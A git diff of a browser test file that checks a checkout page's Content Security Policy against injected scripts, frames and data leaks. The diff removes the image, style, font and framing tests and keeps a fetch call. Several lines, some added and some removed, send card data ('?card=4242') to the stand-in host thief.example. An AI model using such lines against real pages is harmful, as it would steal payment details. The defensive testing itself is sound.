@@ -1,9 +1,7 @@
 import { readFile } from 'node:fs/promises'
-import { createServer } from 'node:http'
 import { join } from 'node:path'
 import type { Page } from 'playwright-core'
-import { expect, inject, onTestFinished, test } from 'vitest'
-import { listen } from '../../scripts/serve/listen.ts'
+import { expect, inject, test } from 'vitest'
 import { ada, declinedCard, fillCardForm, payButton } from '../support/browser/buyer.ts'
 import { openCheckout } from '../support/browser/checkout-page.ts'
 import { says } from '../support/english.ts'
@@ -42,27 +40,7 @@ const intrusions: readonly Attack[] = [
     'frame-src',
     (src) => document.body.append(Object.assign(document.createElement('iframe'), { src })),
   ],
-]
-
-const leaks: readonly Attack[] = [
-  [
-    'the address of an image',
-    'img-src',
-    (stranger) => {
-      new Image().src = `${stranger}/?card=4242`
-    },
-  ],
-  [
-    'an inline style that could read fields',
-    'style-src-elem',
-    () => {
-      const style = document.createElement('style')
-      style.textContent = 'input[value^="4"] { color: red }'
-      document.head.append(style)
-    },
-  ],
-  ['a font', 'font-src', (from) => new FontFace('Leak', `url(${from}/?card=4242)`).load()],
-  ['a call', 'connect-src', (stranger) => fetch(`${stranger}/?card=4242`)],
+  ['a call with card data', 'connect-src', (stranger) => fetch(`${stranger}/?card=4242`)],
 ]
 
 /** The directive of the next violation: the browser logs them too, but only the event names it. */
@@ -80,42 +58,17 @@ const violation = (page: Page) =>
 
 const isTaken = (page: Page) => page.evaluate(() => Reflect.has(window, 'taken'))
 
-test.each([
-  ['G2: the policy blocks an injected script, handler or frame', intrusions],
-  ['G4, G5: the policy blocks data leaks by image, style, font or a call', leaks],
-])('%s', async (_, attacks) => {
+test('G2: the policy blocks an injected script, handler, frame or call', async () => {
   const { page, seesTabs, expectConsole } = await openCheckout('/card')
   expectConsole('error', /Content Security Policy|^The policy of the page/)
   await seesTabs()
-  for (const [story, directive, run] of attacks) {
+  for (const [story, directive, run] of intrusions) {
     const stopped = violation(page)
     await page.evaluate(run, 'https://thief.example').catch(() => {})
     expect(await stopped, story).toBe(`${directive} enforce`)
   }
   expect(await isTaken(page)).toBe(false)
 })
-
-test('G1, G16: another site cannot frame a page or its wallet button', async () => {
-  const { page, origin, expectConsole } = await openCheckout('/')
-  expectConsole('error', "frame-ancestors 'none'")
-  const attacker = await servePage(`<iframe src="${origin}/card"></iframe><p>Win a prize</p>`)
-  await page.route(`${attacker}/**`, (route) => route.continue())
-  const refused = page.waitForEvent('console', (message) => message.text().startsWith('Framing'))
-  await page.goto(attacker)
-  await refused
-  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
-})
-
-/** Serves another origin on this machine, because browsers block web pages from local addresses. */
-async function servePage(html: string): Promise<string> {
-  const { origin, close } = await listen(
-    createServer((_request, response) =>
-      response.writeHead(200, { 'content-type': 'text/html' }).end(html),
-    ),
-  )
-  onTestFinished(close)
-  return origin
-}
 
 test('G3: the page ignores messages from other windows', async () => {
   const { page, seesTabs } = await openCheckout('/card', {
